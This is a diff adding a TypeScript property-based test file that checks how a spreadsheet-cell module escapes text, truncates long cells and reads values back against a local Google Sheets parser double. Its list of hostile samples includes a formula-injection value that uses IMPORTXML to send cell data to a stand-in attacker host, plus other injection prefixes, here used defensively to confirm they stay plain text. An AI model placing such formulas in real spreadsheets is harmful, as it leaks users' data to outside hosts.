@@ -1,0 +1,165 @@
+/** Cell contents, held against the local Google's parser: text stays text, and what is written reads back. */
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import type { AnswerValue } from '../../../src/enrichment/answer';
+import {
+  asTextContent,
+  type Content,
+  contentAgain,
+  contentOf,
+  cut,
+  MAX_CELL,
+  reading,
+  readingOf,
+  type Value,
+} from '../../../src/sheet/cells';
+import { parseTyped } from '../../doubles/google/model/parse';
+import { anyText } from '../samples';
+
+const RULES = { plainTextKeepsEquals: true, plainTextDropsApostrophe: true, year: () => 2026 };
+const FORMATS = ['', '@', '0.00', 'yyyy-mm-dd', '"$"#,##0'];
+
+const hostile = fc.constantFrom(
+  '=IMPORTXML("https://evil.example?"&A1)',
+  '+1+cmd',
+  '-2+3',
+  '@SUM(A1)',
+  "'",
+  "''quoted'",
+  '007',
+  'TRUE',
+  ' false ',
+  '2026-10-02',
+  '1/2',
+  'Jan 5',
+  '10:30 pm',
+  '5%',
+  '$1,000',
+  '(5)',
+  '1e5',
+  '\n=1',
+  '\t+1',
+  '{{Country}}',
+  '#N/A',
+);
+
+/** What the local Google makes of a content. */
+function typed(content: Content, format = ''): Value | 'a formula' {
+  if (typeof content !== 'string') return content;
+  const entry = parseTyped(content, format, RULES);
+  if (entry.kind === 'value') return entry.value;
+  return entry.kind === 'blank' ? '' : 'a formula';
+}
+
+describe('text', () => {
+  it('stays that text, byte for byte, in a cell of any format', () => {
+    const text = fc.oneof(
+      hostile,
+      anyText,
+      fc.tuple(fc.constantFrom('=', '+', '-', "'", '@'), anyText).map((t) => t.join('')),
+    );
+    fc.assert(
+      fc.property(text, fc.constantFrom(...FORMATS), (written, format) => {
+        expect(typed(asTextContent(written), format)).toBe(written);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('of nothing leaves the cell blank', () => {
+    expect(asTextContent('')).toBe('');
+  });
+});
+
+describe('a long text', () => {
+  const long = fc
+    .tuple(fc.integer({ min: -60, max: 20 }), fc.constantFrom('x', '😀', 'é', '\r\n'), fc.string())
+    .map(([off, unit, tail]) => 'a'.repeat(MAX_CELL + off) + unit.repeat(40) + tail);
+  const wide = fc.integer({ min: 0, max: 60 }).map((shift) => 'a'.repeat(shift) + '😀'.repeat(25_001));
+
+  it('is cut to what a cell holds, with a mark that says so', () => {
+    fc.assert(
+      fc.property(fc.oneof(long, wide), (text) => {
+        const kept = cut(text);
+        expect(kept.length).toBeLessThanOrEqual(MAX_CELL);
+        if (text.length > MAX_CELL) expect(kept).toMatch(/ … \[cut: a cell holds 50,000 characters\]$/);
+        else expect(kept).toBe(text);
+      }),
+    );
+  });
+
+  it('is never cut in the middle of a character', () => {
+    fc.assert(fc.property(fc.oneof(long, wide), (text) => !/\p{Surrogate}/u.test(cut(text))));
+  });
+
+  it('keeps its beginning', () => {
+    const text = 'abc'.repeat(20_000);
+    expect(text.startsWith(cut(text).replace(/ … \[cut.*$/, ''))).toBe(true);
+  });
+
+  it('is whole up to the last character that fits', () => {
+    expect(cut('x'.repeat(MAX_CELL))).toBe('x'.repeat(MAX_CELL));
+  });
+});
+
+const answer: fc.Arbitrary<AnswerValue> = fc.oneof(
+  fc.constant(undefined),
+  fc.oneof(hostile, anyText).map((text) => ({ kind: 'text' as const, text })),
+  fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => ({ kind: 'number' as const, number })),
+  fc.boolean().map((yes) => ({ kind: 'yes/no' as const, yes })),
+);
+
+describe('an answer', () => {
+  it('reads back as what it should read, whatever it is', () => {
+    fc.assert(
+      fc.property(answer, (value) => {
+        expect(reading(typed(contentOf(value)), 'as displayed')).toBe(readingOf(value));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('that is a date becomes that day, and reads as its column displays it', () => {
+    const date = { kind: 'date', iso: '2002-09-10' } as const;
+    expect(typed(contentOf(date))).toEqual(new Date(Date.UTC(2002, 8, 10)));
+    expect(reading(new Date(0), '2002-09-10')).toBe(readingOf(date));
+  });
+
+  it('reads the same with either kind of line break', () => {
+    expect(readingOf({ kind: 'text', text: 'a\r\nb\rc' })).toBe(reading('a\nb\nc', ''));
+  });
+
+  it('of none leaves the cell blank, and blank cells read as nothing', () => {
+    expect([contentOf(undefined), readingOf(undefined), reading(undefined, ''), reading('', '')]).toEqual([
+      '',
+      '',
+      '',
+      '',
+    ]);
+  });
+});
+
+describe('a cell that is put back', () => {
+  it('holds what it held: text, number, yes or no', () => {
+    fc.assert(
+      fc.property(fc.oneof(hostile, anyText, fc.double({ noNaN: true }), fc.boolean()), (value) => {
+        expect(typed(contentAgain(value, 'as displayed'))).toEqual(value);
+      }),
+    );
+  });
+
+  it('holds the date that it displays', () => {
+    expect(contentAgain(new Date(0), '2002-09-10')).toBe('2002-09-10');
+    expect(contentAgain(undefined, '')).toBe('');
+  });
+
+  // Known bug: see contentAgain. A copied answer in a column that a person formatted becomes another day.
+  it.fails.each(['Sep 2002', '10/09/2002', 'Sep 10', '37509'])(
+    'holds the same day when it displays %s',
+    (display) => {
+      const day = new Date(Date.UTC(2002, 8, 10));
+      const again: unknown = contentAgain(day, display);
+      expect(again instanceof Date ? again : typed(String(again))).toEqual(day);
+    },
+  );
+});
